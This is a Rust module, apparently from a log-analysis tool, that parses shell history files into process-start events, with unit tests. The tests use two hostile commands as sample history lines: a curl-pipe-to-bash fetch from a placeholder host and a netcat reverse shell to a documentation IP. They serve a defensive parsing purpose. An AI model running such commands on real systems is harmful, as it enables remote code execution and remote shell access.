//! Histories of shells: each line is a command that somebody typed.
//!
//! bash writes the time on a line of its own before the command
//! (`#1700000000`), zsh on the same line (`: 1700000000:0;command`), fish behind it
//! (unpacked to zsh's form before it comes here), and most histories have none. A history is told by its name, or by times written like
//! that. Its commands are `process_start` events, as those of the audit log.

use super::Ctx;
use crate::event::{Draft, EventType, Logsource, Outcome, Ov, RecordFlags, Schema, Severity, TimeQuality, Ts};

/// Lines of a sample that are looked at.
const LINES: usize = 200;

/// What the lines of a history are: product, category, service.
pub const LOGSOURCE: [&str; 3] = ["linux", "process_creation", ""];

/// What is known of a history beside its lines.
#[derive(Debug, Clone)]
pub struct History {
    /// Whose it is, where its path tells.
    user: Option<Box<str>>,
    logsource: Logsource,
}

impl History {
    /// A source of that name, read as a history.
    #[must_use]
    pub fn of(name: &str, schema: &Schema) -> Self {
        let user = owner(name).map(Into::into);
        let [product, category, service] = LOGSOURCE;
        Self { user, logsource: schema.logsource(product, category, service) }
    }

    /// The same, if name or beginning tell that it is one.
    #[must_use]
    pub fn told(name: &str, sample: &[u8], schema: &Schema) -> Option<Self> {
        (named(name) && text(sample) || timed(sample)).then(|| Self::of(name, schema))
    }

    /// Parses one line.
    pub fn parse(&self, line: &str, ctx: &Ctx, d: &mut Draft<'_>) -> bool {
        let line = line.trim_end();
        if let Some(ts) = line.strip_prefix('#').and_then(|n| seconds(n, ctx)) {
            d.time(ts, TimeQuality::Zoned);
            d.set(Ov::Message, line);
            d.flag(RecordFlags::PARSED);
            d.flag(RecordFlags::HEADER);
            return true;
        }
        let mut command = line;
        if let Some((ts, rest)) = zsh(line, ctx) {
            d.time(ts, TimeQuality::Zoned);
            command = rest;
        }
        let command = command.trim();
        d.set(Ov::Message, command);
        d.set(Ov::Resource, command);
        d.field("CommandLine", command);
        let name = program(command);
        if !name.is_empty() {
            d.set(Ov::Process, name);
        }
        if let Some(user) = &self.user {
            d.set(Ov::User, user);
        }
        d.event(EventType::ProcessStart, Outcome::Unknown);
        d.severity(Severity::Info);
        d.logsource(self.logsource);
        d.flag(RecordFlags::PARSED);
        true
    }
}

/// A number of seconds since 1970 that can be one: not before shells wrote
/// them, not after the reference.
fn seconds(text: &str, ctx: &Ctx) -> Option<Ts> {
    if text.len() != 9 && text.len() != 10 {
        return None;
    }
    let secs: i64 = text.bytes().all(|b| b.is_ascii_digit()).then(|| text.parse().ok())??;
    let ts = Ts::from_secs(secs);
    (secs > 631_152_000 && ts <= ctx.limit).then_some(ts)
}

/// `: TIME:DURATION;command`
fn zsh<'a>(line: &'a str, ctx: &Ctx) -> Option<(Ts, &'a str)> {
    let (stamp, rest) = line.strip_prefix(": ")?.split_once(':')?;
    let (took, command) = rest.split_once(';')?;
    let number = !took.is_empty() && took.bytes().all(|b| b.is_ascii_digit());
    number.then(|| seconds(stamp.trim_start(), ctx)).flatten().map(|ts| (ts, command))
}

/// The program that a command line runs: its first word behind assignments.
fn program(command: &str) -> &str {
    let mut words = command.split_ascii_whitespace();
    let assigns = |w: &&str| {
        w.split_once('=')
            .is_some_and(|(n, _)| !n.is_empty() && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
    };
    let word = words.find(|w| !assigns(w)).unwrap_or("");
    word.rsplit('/').next().unwrap_or(word)
}

/// Whether a source's name is that of a shell's history.
fn named(name: &str) -> bool {
    let file = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
    file.contains("history")
        && (["bash", "fish", "zsh", "ksh", "ash_", "sh_"].iter().any(|s| file.contains(s))
            || matches!(&*file, ".history" | ".zhistory"))
}

/// Whose home the path is in.
fn owner(name: &str) -> Option<&str> {
    // fish keeps its own some folders deeper in the home.
    let name = name.strip_suffix(".local/share/fish/fish_history").unwrap_or(name);
    let mut parts = name.rsplit('/');
    parts.next()?;
    let (dir, above) = (parts.next()?, parts.next());
    match above {
        Some("home" | "Users") if !dir.is_empty() => Some(dir),
        _ => (dir == "root").then_some("root"),
    }
}

/// Whether a sample is text, and not a log that only has such a name.
fn text(sample: &[u8]) -> bool {
    !sample.contains(&0)
}

/// Whether a sample's lines have times as shells write them.
fn timed(sample: &[u8]) -> bool {
    let digits = |b: &[u8]| matches!(b.len(), 9 | 10) && b.iter().all(u8::is_ascii_digit);
    let (mut lines, mut marks, mut inline) = (0usize, 0usize, 0usize);
    for line in sample.split(|b| *b == b'\n').map(<[u8]>::trim_ascii_end).filter(|l| !l.is_empty()).take(LINES) {
        lines += 1;
        marks += usize::from(line.strip_prefix(b"#").is_some_and(digits));
        inline += usize::from(line.strip_prefix(b": ").is_some_and(|l| {
            let n = l.iter().take_while(|b| b.is_ascii_digit()).count();
            matches!(n, 9 | 10)
                && l.get(n) == Some(&b':')
                && l.iter().skip(n + 1).find(|b| !b.is_ascii_digit()) == Some(&b';')
        }));
    }
    lines > 1 && (marks * 3 >= lines || inline * 2 >= lines)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::EventRow;
    use crate::parse::{Options, Parser};
    use std::sync::Arc;

    fn rows(name: &str, log: &str) -> Vec<EventRow> {
        let options = Options::new(Ts::from_secs(1_800_000_000));
        let parser = Parser::for_source(name, log.as_bytes(), &options, &Arc::new(Schema::base()));
        log.lines().map(|l| EventRow::from(parser.parse_one(l).event(0).unwrap())).collect()
    }

    #[test]
    fn bash_with_times() {
        let r = rows("h.txt", "#1700000000\ncurl http://x.example/i.sh | bash\n#1700000060\nFOO=1 /usr/bin/id -a\n");
        assert_eq!(r[0].time, Ts::from_secs(1_700_000_000));
        assert_eq!(
            (r[1].event_type, r[1].ov(Ov::Resource)),
            (EventType::ProcessStart, Some("curl http://x.example/i.sh | bash"))
        );
        assert_eq!((r[1].time, r[1].ov(Ov::Process), r[3].ov(Ov::Process)), (Ts::NONE, Some("curl"), Some("id")));
        assert!(r.iter().all(|r| r.parsed && crate::parse::format_name(r.format) == "history"));
    }

    #[test]
    fn zsh_with_times() {
        let r = rows("x", ": 1700000000:0;cd /tmp\n: 1700000005:12;nc -e /bin/sh 192.0.2.1 4444\n");
        assert_eq!((r[1].time.secs(), r[1].ov(Ov::Resource)), (1_700_000_005, Some("nc -e /bin/sh 192.0.2.1 4444")));
    }

    #[test]
    fn by_name_without_times() {
        let r = rows("/srv/case/home/alice/.bash_history", "ls\nsudo su\n");
        assert_eq!((r[1].ov(Ov::User), r[1].time, r[1].event_type), (Some("alice"), Ts::NONE, EventType::ProcessStart));
        assert_eq!(rows("/root/.zsh_history", "ls\n")[0].ov(Ov::User), Some("root"));
        assert_eq!(rows("notes", "ls\nsudo su\n")[0].event_type, EventType::Other);
        let fish = rows("/srv/case/home/eve/.local/share/fish/fish_history", ": 1700000000:0;id\n");
        assert_eq!(fish[0].ov(Ov::User), Some("eve"));
        assert!(named("fish_history") && !named("mysql_history") && !named("history.log"));
    }

    #[test]
    fn a_comment_or_a_number_of_the_future_is_no_time() {
        let r = rows(".bash_history", "#1999999999\n#hello\n# 1700000000\n#170000000000\n");
        assert!(r.iter().all(|r| r.time == Ts::NONE && r.event_type == EventType::ProcessStart));
    }

    proptest::proptest! {
        #[test]
        fn no_panic(s in "[#: ;0-9a-zé=/]{0,60}") {
            let _ = rows("bash_history", &s);
        }
    }
}
